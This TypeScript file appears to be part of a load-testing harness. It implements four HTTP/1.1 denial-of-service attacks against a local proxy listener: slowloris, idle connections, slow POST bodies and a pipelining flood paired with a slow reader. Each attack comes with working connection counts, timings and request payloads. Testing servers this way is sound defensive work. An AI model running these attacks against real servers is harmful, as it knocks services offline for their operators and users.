/**
 * HTTP/1.1 attackers (RFC 9112) against the http listener: slowloris, idle
 * connections, slow request bodies, and a pipelining flood from a client
 * that reads its answers slowly.
 */
import type net from 'node:net';
import {
  aborted,
  drained,
  every,
  Tracker,
  type Attack,
  type AttackOutcome,
  type Target,
} from './kit.js';

/** Connections of the slowloris row. */
export const SLOWLORIS_CONNECTIONS = 1000;
/** Silent connections of the idle row (attacker + proxy stay under a 20,000-descriptor limit). */
export const IDLE_CONNECTIONS = 5000;
/** Clients of the slow-body row. */
export const SLOW_BODY_CONNECTIONS = 300;
/** Pipelining clients. */
export const PIPELINE_CONNECTIONS = 2;
/** Seconds between two bytes of a slow header or body. */
const TRICKLE_MS = 3000;
/** Declared body length of the slow-body row: never reached within a row. */
const SLOW_BODY_BYTES = 1000;
/** Requests per pipelined write. */
const PIPELINE_BATCH = 500;
/** The slow reader takes one buffered chunk (at most 64 KiB) this often. */
const SLOW_READ_MS = 50;

function requestHead(target: Target): string {
  return `GET ${target.path} HTTP/1.1\r\nHost: 127.0.0.1:${target.port}\r\n`;
}

/** Counts each connection that received any answer (for example a 408 or 400). */
function countAnswers(socket: net.Socket, tracker: Tracker): void {
  socket.once('data', () => tracker.count('answered'));
  socket.resume();
}

/** N connections that each send a request head one header byte every few seconds, never ending it. */
export const slowloris: Attack = {
  id: 'slowloris',
  family: 'http',
  summary: `${SLOWLORIS_CONNECTIONS} connections: request line + Host, then one header byte every ${TRICKLE_MS / 1000} s`,
  async run(target, signal): Promise<AttackOutcome> {
    const tracker = new Tracker(target.port);
    const head = requestHead(target);
    const sockets = await tracker.openMany(SLOWLORIS_CONNECTIONS, signal, (socket) => {
      countAnswers(socket, tracker);
      socket.write(`${head}X-Slow-`);
    });
    await every(TRICKLE_MS, signal, () => {
      for (const socket of sockets) if (socket.writable) socket.write('a');
    });
    return tracker.finish();
  },
};

/** N connections that never send a byte. */
export const idle: Attack = {
  id: 'idle',
  family: 'http',
  summary: `${IDLE_CONNECTIONS} connections that never send a byte`,
  async run(target, signal): Promise<AttackOutcome> {
    const tracker = new Tracker(target.port);
    await tracker.openMany(IDLE_CONNECTIONS, signal, (socket) => countAnswers(socket, tracker));
    await aborted(signal);
    return tracker.finish();
  },
};

/** POSTs whose declared body arrives one byte every few seconds. */
export const slowBody: Attack = {
  id: 'slow-body',
  family: 'http',
  // nginx's static module answers a POST with 405 at once; an API backend reads the body first.
  backend: 'echo',
  summary: `${SLOW_BODY_CONNECTIONS} POSTs, Content-Length ${SLOW_BODY_BYTES}, body sent 1 byte every ${TRICKLE_MS / 1000} s`,
  async run(target, signal): Promise<AttackOutcome> {
    const tracker = new Tracker(target.port);
    const head =
      `POST ${target.path} HTTP/1.1\r\nHost: 127.0.0.1:${target.port}\r\n` +
      `Content-Type: text/plain\r\nContent-Length: ${SLOW_BODY_BYTES}\r\n\r\n`;
    const sockets = await tracker.openMany(SLOW_BODY_CONNECTIONS, signal, (socket) => {
      countAnswers(socket, tracker);
      socket.write(`${head}x`);
    });
    await every(TRICKLE_MS, signal, () => {
      for (const socket of sockets) if (socket.writable) socket.write('x');
    });
    return tracker.finish();
  },
};

/** Writes pipelined GETs as fast as the proxy takes them; reads one chunk every SLOW_READ_MS. */
async function pipelineOne(
  socket: net.Socket,
  tracker: Tracker,
  batch: Buffer,
  signal: AbortSignal,
) {
  const reader = setInterval(() => {
    const chunk = socket.read() as Buffer | null;
    if (chunk !== null) tracker.count('bytesRead', chunk.length);
  }, SLOW_READ_MS);
  try {
    // Bounded by time: the loop ends when the attack's signal aborts or the proxy closes.
    while (!signal.aborted && socket.writable) {
      socket.write(batch);
      tracker.count('requestsSent', PIPELINE_BATCH);
      await drained(socket, signal);
      // Let timers (the slow reader, the samplers) run between writes.
      await new Promise<void>((resolve) => setImmediate(resolve));
    }
  } finally {
    clearInterval(reader);
  }
}

export const pipelineFlood: Attack = {
  id: 'pipeline-flood',
  family: 'http',
  summary: `${PIPELINE_CONNECTIONS} clients pipelining GETs (${PIPELINE_BATCH} per write) as fast as accepted, reading 1 chunk per ${SLOW_READ_MS} ms`,
  async run(target, signal): Promise<AttackOutcome> {
    const tracker = new Tracker(target.port);
    const batch = Buffer.from(`${requestHead(target)}\r\n`.repeat(PIPELINE_BATCH), 'latin1');
    const sockets = await tracker.openMany(PIPELINE_CONNECTIONS, signal, () => undefined);
    await Promise.all(sockets.map((socket) => pipelineOne(socket, tracker, batch, signal)));
    await aborted(signal);
    return tracker.finish();
  },
};

export const HTTP1_ATTACKS: readonly Attack[] = [slowloris, idle, slowBody, pipelineFlood];
